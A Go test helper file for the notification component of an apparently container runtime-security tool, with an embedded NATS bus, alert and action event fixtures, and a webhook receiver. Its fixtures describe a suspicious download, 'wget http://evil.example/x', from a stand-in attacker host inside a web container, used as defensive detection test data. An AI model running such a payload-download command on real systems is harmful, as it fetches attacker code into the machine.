package notify

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"os"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/containsec/contain/internal/bus"
	"github.com/containsec/contain/internal/metrics"
	"github.com/containsec/contain/internal/testenv"
	"github.com/containsec/contain/schemas/containv1"
)

const testHost = "node-a"

var ids = containv1.NewIDGen()

func testLog() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
}

// startBus runs an embedded NATS server with contain's streams.
func startBus(t *testing.T) jetstream.JetStream {
	t.Helper()
	srv, err := bus.StartEmbedded(bus.EmbeddedConfig{Port: -1, StoreDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.Shutdown)
	nc, js, err := bus.Connect(srv.ClientURL(), "notify-test", testLog())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := bus.EnsureStreams(ctx, js, bus.StreamsConfig{EventsMaxAge: time.Hour, AlertsMaxAge: time.Hour, Replicas: 1}); err != nil {
		t.Fatal(err)
	}
	return js
}

// runNotifier starts a Notifier on js and stops it at the test's end.
func runNotifier(t *testing.T, js jetstream.JetStream, cfg Config) (*Notifier, *metrics.Metrics) {
	t.Helper()
	if cfg.DurablePrefix == "" {
		cfg.DurablePrefix = "notify"
	}
	m := metrics.New()
	nf, err := New(cfg, js, m, testLog())
	if err != nil {
		t.Fatal(err)
	}
	testenv.Go(t, 10*time.Second, nf.Run)
	return nf, m
}

func (nf *Notifier) count(output string) (delivered, failed, dropped float64) {
	om := nf.senders[0].m
	return testutil.ToFloat64(om.delivered.WithLabelValues(output)), testutil.ToFloat64(om.failed.WithLabelValues(output)),
		testutil.ToFloat64(om.dropped.WithLabelValues(output, dropQueueFull)) + testutil.ToFloat64(om.dropped.WithLabelValues(output, dropRejected))
}

// kept reports whether the notifier holds alert for the actions it causes
// (notification): an action handled before it is not enriched with it.
func (nf *Notifier) kept(alert *containv1.Event) bool {
	nf.mu.Lock()
	defer nf.mu.Unlock()
	return nf.alerts.get(containv1.FormatID(alert.Id)) != nil
}

func publish(t *testing.T, js jetstream.JetStream, subject string, evs ...*containv1.Event) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := bus.Publish(ctx, js, subject, bus.NewProducer(testHost, "test").Batch(evs)); err != nil {
		t.Fatal(err)
	}
}

const testContainer = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

func alertEvent(score float64) *containv1.Event {
	trig := &containv1.Event{Kind: containv1.Kind_KIND_EXEC, WallNs: time.Now().UnixNano(), Body: &containv1.Event_Exec{Exec: &containv1.Exec{
		Proc:     &containv1.Process{Tgid: 4242, Ppid: 1, Uid: 33, Comm: "wget"},
		Filename: "/usr/bin/wget", Exe: "/usr/bin/wget", Argv: []string{"wget", "http://evil.example/x"}}}}
	return &containv1.Event{Id: ids.Next(), Host: testHost, ContainerId: testContainer, ContainerName: "web",
		ImageRef: "nginx:1.27", WallNs: time.Now().UnixNano(), Kind: containv1.Kind_KIND_ALERT,
		Body: &containv1.Event_Alert{Alert: &containv1.Alert{Score: score, Rule: "exec.unseen", Priority: "Critical", Count: 1,
			Pod: "web-7d4b9c8f6d-x2x9q", Namespace: "shop", Labels: map[string]string{"app": "web"},
			Reasons: []*containv1.Reason{
				{Code: "exec.unseen", Message: "/usr/bin/wget never ran in this image", Score: score, Mitre: []string{"T1059"}},
				{Code: "net.download", Message: "download tool", Score: 0.5, Mitre: []string{"T1105"}},
			}, Trigger: trig}}}
}

func actionEvent(alert *containv1.Event, typ containv1.Action_Type, res containv1.Action_Result, detail string) *containv1.Event {
	return &containv1.Event{Id: ids.Next(), Host: testHost, ContainerId: alert.GetContainerId(), ContainerName: alert.GetContainerName(),
		ImageRef: alert.GetImageRef(), WallNs: time.Now().UnixNano(), Kind: containv1.Kind_KIND_ACTION,
		Body: &containv1.Event_Action{Action: &containv1.Action{Type: typ, Result: res, Actor: "responder@" + testHost,
			Method: "cgroup-v2-freeze", Reason: "exec.unseen", Detail: detail, AlertId: alert.GetId(), Score: alert.GetAlert().GetScore(),
			LatencyNs: int64(7 * time.Millisecond)}}}
}

const snapshotDetail = `{"decision":"paused and verified frozen (score 0.95 >= threshold 0.8)","threshold":0.8,
"snapshot":{"taken_at":"2026-12-03T00:00:00Z","processes":[{"pid":4242,"ppid":1,"uid":33,"comm":"wget","argv":["wget","http://evil.example/x"]},{"pid":1,"comm":"nginx","argv":["nginx"]}],
"sockets":[{"proto":"tcp","local":"0.0.0.0:80","remote":"0.0.0.0:0","state":"LISTEN"}],"changed_files":[{"path":"/tmp/x","size":3}]}}`

// receiver is an HTTP endpoint recording each request body by id.
type receiver struct {
	mu     sync.Mutex
	bodies map[string][][]byte
	order  []string
}

func newReceiver() *receiver { return &receiver{bodies: map[string][][]byte{}} }

func (r *receiver) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	b, _ := io.ReadAll(req.Body)
	id := req.Header.Get(HeaderID)
	r.mu.Lock()
	r.bodies[id] = append(r.bodies[id], b)
	r.order = append(r.order, id)
	r.mu.Unlock()
	w.WriteHeader(http.StatusOK)
}

func (r *receiver) len() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.order)
}

// decoded returns the bodies received, decoded into T, in arrival order.
func decoded[T any](t *testing.T, r *receiver) []T {
	t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []T
	seen := map[string]int{}
	for _, id := range r.order {
		var v T
		if err := json.Unmarshal(r.bodies[id][seen[id]], &v); err != nil {
			t.Fatalf("body of %s: %v", id, err)
		}
		seen[id]++
		out = append(out, v)
	}
	return out
}
